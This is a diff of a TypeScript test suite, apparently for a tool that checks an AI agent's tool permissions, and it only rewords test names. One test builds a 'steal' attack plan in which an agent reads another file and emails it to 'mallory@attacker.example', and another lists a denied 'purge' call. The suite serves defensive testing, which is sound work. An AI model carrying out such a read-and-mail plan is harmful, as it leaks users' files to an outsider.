@@ -30,7 +30,7 @@ async function answer(sentence = 'Mail the file.', plans: AttackPlans = {}): Pro
   return runStudyToRecord(checkAgent(system, { task: { sentence, calls: CALLS, variants: [] }, plans }));
 }
 
-describe('files exported for a user', () => {
+describe('files that the user can export', () => {
   it('AGENT-51 exported files assert each denial, and fail when a rule is widened', async () => {
     const found = await answer();
     const subject = findSubject(found, 'shapes');
@@ -49,7 +49,7 @@ describe('files exported for a user', () => {
       expect(writeTakeaway('pytest', found, 'shapes')).toContain(String(Object.values(call.args)[0]));
   });
 
-  it('AGENT-53 tests call tools outside the warrant and pass an undeclared argument', async () => {
+  it('AGENT-53 the exported tests call tools outside the warrant and pass an undeclared argument', async () => {
     const subject = findSubject(await answer(), 'exact');
     const { denied } = listTestedCalls(subject);
     expect(denied.map(({ tool }) => tool)).toContain('purge');
@@ -59,7 +59,7 @@ describe('files exported for a user', () => {
     ]);
   });
 
-  it('AGENT-95 tests call what lies just beyond each rule', async () => {
+  it('AGENT-95 the exported tests make calls that lie just beyond each rule', async () => {
     const number = { type: 'integer' };
     const tools = [
       { name: 'read_file', inputSchema: { properties: { path: text }, required: ['path'] } },
@@ -92,7 +92,7 @@ describe('files exported for a user', () => {
     );
   });
 
-  it('AGENT-51 known gaps leave out the harmless steps of a possible attack, such as reading', async () => {
+  it('AGENT-51 known gaps do not include the harmless steps of a possible attack, such as reading', async () => {
     const send = { tool: 'send_email', args: { to: 'mallory@attacker.example', body: 'x' } };
     const plan = [{ tool: 'read_file', args: { path: '/files/other.txt' } }, send];
     const found = await answer('Mail the file.', { steal: plan });
@@ -100,7 +100,7 @@ describe('files exported for a user', () => {
     expect(listTestedCalls(findSubject(found, 'shapes')).permitted).toEqual([]);
   });
 
-  it.each(TAKEAWAY_FORMATS)('the exported file %s is deterministic text', async (format) => {
+  it.each(TAKEAWAY_FORMATS)('the exported file %s has the same contents each time', async (format) => {
     const written = writeTakeaway(format, await answer(), 'shapes');
     expect(written.length).toBeGreaterThan(50);
     expect(writeTakeaway(format, await answer(), 'shapes')).toBe(written);
